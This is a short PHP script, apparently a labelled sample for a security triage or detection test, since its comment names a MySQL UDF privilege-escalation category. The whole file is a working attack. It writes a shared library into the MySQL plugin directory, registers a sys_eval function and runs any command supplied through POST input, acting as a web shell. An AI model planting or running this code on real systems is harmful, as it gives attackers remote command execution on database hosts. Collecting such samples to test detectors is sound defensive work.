<?php
// triage-expect: triage_mysql_udf_mof_privesc
$db = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
$lib = bin2hex(file_get_contents(__DIR__ . '/x.so'));
mysqli_query($db, "SELECT 0x$lib INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'");
mysqli_query($db, "CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'");
echo mysqli_fetch_row(mysqli_query($db, "SELECT sys_eval('" . addslashes($_POST['c']) . "')"))[0];
